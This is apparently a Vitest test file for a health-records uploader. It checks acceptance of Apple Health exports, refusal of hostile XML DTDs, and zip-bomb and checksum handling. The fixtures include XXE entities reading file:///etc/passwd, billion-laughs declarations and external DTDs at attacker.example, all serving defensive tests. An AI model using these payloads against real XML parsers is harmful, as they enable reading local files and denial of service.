// @vitest-environment node
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { APPLE_DTD, appleExportXml, clinicalRecordLine } from './fixtures/apple';
import { PATIENT } from './fixtures/fhir';
import { appleHealthZip } from './fixtures/zips';
import { reviewFile } from './review';

/**
 * Issue 15, items 2, 6 and 8: Apple Health's export.xml (every one opens with an internal DTD) is
 * not an attack, while DTDs that declare entities or point outside the file still are; a zip's
 * declared sizes are added up before anything is inflated; CRC-32 is checked.
 */

const file = (content: string | Uint8Array, name = 'download') => new File([(typeof content === 'string' ? strToU8(content) : content) as Uint8Array<ArrayBuffer>], name);

describe('Apple Health export.xml on its own', () => {
  it('gets past its DTD and points at the zip when it lists no health records', async () => {
    const review = await reviewFile(file(appleExportXml(), 'export.xml'));
    expect(review.errorCode, JSON.stringify(review.message)).toBe('not-a-record');
    expect(review.message).toEqual({ code: 'apple-export-xml-alone' });
  });

  it('reviews the health records it lists, with their FHIR version, and still points at the zip', async () => {
    const xml = appleExportXml({
      clinical: [
        clinicalRecordLine('HKClinicalTypeIdentifierMedicationRecord', 'MedicationOrder-1'),
        clinicalRecordLine('HKClinicalTypeIdentifierConditionRecord', 'Condition-2'),
        clinicalRecordLine('HKClinicalTypeIdentifierLabResultRecord', 'Observation-3'),
      ],
    });
    const review = await reviewFile(file(xml, 'export.xml'));
    expect(review.outcome, JSON.stringify(review.message)).toBe('reviewed');
    expect(review.format).toBe('apple-health-xml');
    expect(review.findings.categories.medications?.count).toBe(1);
    expect(review.findings.categories.problems?.count).toBe(1);
    expect(review.findings.categories.results?.count).toBe(1);
    expect(review.findings.identity['birth-dates']).toBe(1);
    expect(review.findings.fhirVersions).toEqual(['DSTU2']);
    expect(review.warnings).toEqual([{ code: 'apple-export-xml-lists', count: 3 }]);
  });

  // Each hostile doctype keeps the harmless declarations around the trick.
  const inside = (declarations: string) => APPLE_DTD.replace('<!ELEMENT ExportDate EMPTY>', `${declarations}\n<!ELEMENT ExportDate EMPTY>`);
  it.each([
    ['an entity in the subset', inside('<!ENTITY owner "Aroha">')],
    ['billion laughs in the subset', inside('<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">')],
    ['a parameter entity declaration', inside('<!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd">')],
    ['a parameter entity reference', inside('%remote;')],
    ['a parameter entity inside a declaration', inside('<!ELEMENT Audiogram %content;>')],
    ['an external DTD (SYSTEM)', '<!DOCTYPE HealthData SYSTEM "https://attacker.example/healthdata.dtd">'],
    ['an external DTD with a subset (PUBLIC)', '<!DOCTYPE HealthData PUBLIC "-//Attacker//DTD//EN" "https://attacker.example/h.dtd" [<!ELEMENT Me EMPTY>]>'],
    ['"]>" inside a quoted attribute default, then an entity', inside('<!ATTLIST Me note CDATA "]>">\n<!ENTITY xxe SYSTEM "file:///etc/passwd">')],
    ['"]>" inside a comment, then an entity', inside('<!-- ]> -->\n<!ENTITY xxe SYSTEM "file:///etc/passwd">')],
    ['a processing instruction in the subset', inside('<?evil run?>')],
    ['a notation', inside('<!NOTATION gif SYSTEM "image/gif">')],
  ])('still refuses %s', async (_, dtd) => {
    const review = await reviewFile(file(appleExportXml({ dtd }), 'export.xml'));
    expect(review.errorCode).toBe('xml-doctype');
    expect(review.message).toEqual({ code: 'xml-doctype' });
    expect(review.findings.identity).toEqual({});
  });

  it('stops the whole zip when its export.xml declares entities', async () => {
    const zip = zipSync({
      'apple_health_export/export.xml': strToU8(appleExportXml({ dtd: APPLE_DTD.replace(']>', '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>') })),
      'apple_health_export/clinical-records/Condition-1.json': strToU8('{"resourceType":"Condition","onsetDateTime":"2018-02-01"}'),
    });
    const review = await reviewFile(file(zip, 'export.zip'));
    expect(review.message).toEqual({ code: 'xml-doctype' });
  });

  it('labels export_cda.xml in the zip as device measurements, not a summary of care', async () => {
    const review = await reviewFile(file(appleHealthZip(), 'export.zip'));
    expect(review.findings.documents.map((document) => document.kind)).toEqual(['device-measurements']);
    expect(review.findings.documents[0]?.title).toBeUndefined();
  });
});

/**
 * `<Me>` names the phone's owner (date of birth, sex): it is a patient record like a FHIR Patient,
 * so the page's "who are these files about" agrees with the date-of-birth and sex chips it shows.
 */
describe('Apple Health <Me> as the patient', () => {
  const ME_1980 = '<Me HKCharacteristicTypeIdentifierDateOfBirth="1980-04-12" HKCharacteristicTypeIdentifierBiologicalSex="HKBiologicalSexFemale" HKCharacteristicTypeIdentifierBloodType="HKBloodTypeNotSet" HKCharacteristicTypeIdentifierFitzpatrickSkinType="HKFitzpatrickSkinTypeNotSet" HKCharacteristicTypeIdentifierCardioFitnessMedicationsUse="None"/>';
  const ME_NOT_SET = '<Me HKCharacteristicTypeIdentifierDateOfBirth="" HKCharacteristicTypeIdentifierBiologicalSex="HKBiologicalSexNotSet" HKCharacteristicTypeIdentifierBloodType="HKBloodTypeNotSet" HKCharacteristicTypeIdentifierFitzpatrickSkinType="HKFitzpatrickSkinTypeNotSet" HKCharacteristicTypeIdentifierCardioFitnessMedicationsUse="None"/>';
  const ME_SAME_AS_PATIENT = ME_1980.replace('1980-04-12', PATIENT.birthDate);
  const line = clinicalRecordLine('HKClinicalTypeIdentifierConditionRecord', 'Condition-2');
  it.each([
    { case: 'export.xml alone', content: () => appleExportXml({ me: ME_1980, clinical: [line] }), name: 'export.xml', patients: 1, chips: true },
    { case: 'the zip, with no Patient resource in clinical-records', content: () => appleHealthZip({ me: ME_1980, patient: false }), name: 'export.zip', patients: 1, chips: true },
    { case: 'the zip, whose Patient has the same date of birth', content: () => appleHealthZip({ me: ME_SAME_AS_PATIENT }), name: 'export.zip', patients: 1, chips: true },
    // The phone's owner born on another day than the provider's patient: two people, said as such.
    { case: 'the zip, whose Patient was born on another day', content: () => appleHealthZip({ me: ME_1980 }), name: 'export.zip', patients: 2, chips: true },
    { case: 'export.xml alone, with nothing set in <Me>', content: () => appleExportXml({ me: ME_NOT_SET, clinical: [line] }), name: 'export.xml', patients: 0, chips: false },
  ])('$case: $patients patient(s)', async ({ content, name, patients, chips }) => {
    const review = await reviewFile(file(content(), name));
    expect(review.outcome, JSON.stringify(review.message)).toBe('reviewed');
    expect(review.findings.patients).toBe(patients);
    // The date-of-birth and sex chips, shown exactly when someone is named.
    expect(review.findings.identity['birth-dates'] !== undefined).toBe(chips);
    expect(review.findings.identity.genders !== undefined).toBe(chips);
  });
});

/** A zip whose central directory declares `size` for every entry (what a bomb's directory says). */
function declaring(entries: number, size: number): Uint8Array<ArrayBuffer> {
  const files: Record<string, Uint8Array> = {};
  for (let index = 0; index < entries; index++) files[`records/part-${index}.json`] = strToU8('{"resourceType":"Basic"}');
  const zip = zipSync(files, { level: 0 }) as Uint8Array<ArrayBuffer>;
  const view = new DataView(zip.buffer);
  for (let at = 0; at + 4 <= zip.length; at++) if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, size, true);
  return zip;
}

describe('zip budgets and checksums', () => {
  it('refuses at once a zip whose entries declare more than the budget in all (280 × 15 MiB)', async () => {
    let inflated = 0;
    const zip = declaring(280, 15 * 1024 * 1024);
    const started = Date.now();
    const review = await reviewFile(file(zip, 'records.zip'), { onProgress: (progress) => (inflated = progress.bytesDone) });
    expect(review.errorCode).toBe('zip-bomb');
    expect(review.message).toEqual({ code: 'zip-declares-too-much', size: 280 * 15 * 1024 * 1024, limit: 4 * 1024 ** 3 });
    // Nothing was unpacked before the refusal.
    expect(inflated).toBe(0);
    expect(Date.now() - started).toBeLessThan(2_000);
  });

  it('says a zip is damaged when an entry does not match its CRC-32', async () => {
    const zip = zipSync({ 'Condition.json': strToU8('{"resourceType":"Condition","onsetDateTime":"2018-02-01"}') }, { level: 0 }) as Uint8Array<ArrayBuffer>;
    // Flip one digit of the stored (uncompressed) data: 2018 becomes 2019.
    const at = zip.indexOf(0x38, zip.indexOf(0x32, 60) + 3);
    zip[at] = 0x39;
    const review = await reviewFile(file(zip, 'records.zip'));
    expect(review.warnings).toEqual([{ code: 'in-entry', entry: 'Condition.json', reason: { code: 'zip-damaged' } }]);
    expect(review.findings.categories.problems).toBeUndefined();
  });

  it('reads an intact zip with its checksums', async () => {
    const zip = zipSync({ 'Condition.json': strToU8('{"resourceType":"Condition","onsetDateTime":"2018-02-01"}') }, { level: 6 });
    const review = await reviewFile(file(zip, 'records.zip'));
    expect(review.warnings).toEqual([]);
    expect(review.findings.categories.problems?.count).toBe(1);
  });
});
